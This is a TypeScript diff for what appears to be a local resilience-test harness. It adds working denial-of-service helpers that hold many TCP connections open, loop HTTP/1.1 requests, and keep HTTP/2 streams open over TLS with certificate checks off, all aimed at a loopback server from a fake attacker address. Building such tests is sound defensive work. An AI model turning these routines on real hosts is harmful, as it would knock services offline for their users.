@@ -1,6 +1,13 @@
-import type { Socket } from "node:net";
+import { connect as connectHttp2 } from "node:http2";
+import { connect, type Socket } from "node:net";
+import { setTimeout as pause } from "node:timers/promises";
+import { connect as connectTls } from "node:tls";
 
-import { holdConnections, holdStreams, repeatRequest, type Target } from "./attack-connections.ts";
+/** The attacked URL, and when the attack ends. */
+interface Target {
+  url: URL;
+  isOver: () => boolean;
+}
 
 export interface Attack {
   name: string;
@@ -8,6 +15,8 @@ export interface Attack {
   run: (target: Target) => Promise<void>;
 }
 
+/** A loopback address other than the visitors'. */
+const ATTACKER = "127.0.0.66";
 const HEADERS = "Host: localhost\r\nAccept-Encoding: br\r\n";
 /** The beginning of a body of the largest allowed size; the rest is never sent. */
 const HALF_SENT = "x".repeat(64_500);
@@ -86,3 +95,75 @@ export const proxiedAttacks: readonly Attack[] = [
     socket.write(Buffer.from("16030102", "hex"));
   }),
 ];
+
+/** Opens a connection from the attacker's address, ignoring errors. */
+function openConnection({ url }: Target): Socket {
+  const socket = connect({ port: Number(url.port), host: "127.0.0.1", localAddress: ATTACKER });
+  socket.on("error", () => {});
+  return socket;
+}
+
+/** Keeps a number of connections open until the end, replacing those that are closed. */
+async function holdConnections(
+  target: Target,
+  count: number,
+  begin: (socket: Socket) => void,
+): Promise<void> {
+  const sockets = new Set<Socket>();
+  while (!target.isOver()) {
+    // Connections are opened 100 at a time, as by a program on one machine.
+    for (let opened = 0; opened < 100 && sockets.size < count; opened += 1) {
+      const socket = openConnection(target);
+      sockets.add(socket);
+      socket.once("connect", () => begin(socket)).once("close", () => sockets.delete(socket));
+    }
+    await pause(20);
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+/** Repeats a request on a few connections, each time after its response. */
+function repeatRequest(target: Target, connections: number, request: string): Promise<void> {
+  return holdConnections(target, connections, (socket) => {
+    const send = () => void socket.write(request);
+    socket.on("data", (chunk: Buffer) => {
+      if (chunk.includes("HTTP/1.1 ")) send();
+    });
+    send();
+  });
+}
+
+/** Opens a TLS connection for HTTP/2 from the attacker's address. */
+function openTls(url: URL) {
+  const port = Number(url.port);
+  return connectTls({
+    socket: connect({ port, host: "127.0.0.1", localAddress: ATTACKER }),
+    servername: url.hostname,
+    ALPNProtocols: ["h2"],
+    rejectUnauthorized: false,
+  });
+}
+
+/** Keeps a number of HTTP/2 streams open, replacing those that end. */
+async function holdStreams(
+  { url, isOver }: Target,
+  count: { connections: number; streams: number },
+  headers: Record<string, string>,
+  body: string | undefined,
+): Promise<void> {
+  const sessions = Array.from({ length: count.connections }, () => {
+    const session = connectHttp2(url.origin, { createConnection: () => openTls(url) });
+    session.on("error", () => {});
+    const open = () => {
+      if (isOver() || session.destroyed || session.closed) return;
+      const stream = session.request(headers, { endStream: body === undefined });
+      stream.on("error", () => {}).on("close", () => setImmediate(open));
+      stream.resume();
+      if (body) stream.write(body);
+    };
+    for (let opened = 0; opened < count.streams; opened += 1) open();
+    return session;
+  });
+  while (!isOver()) await pause(20);
+  for (const session of sessions) session.destroy();
+}
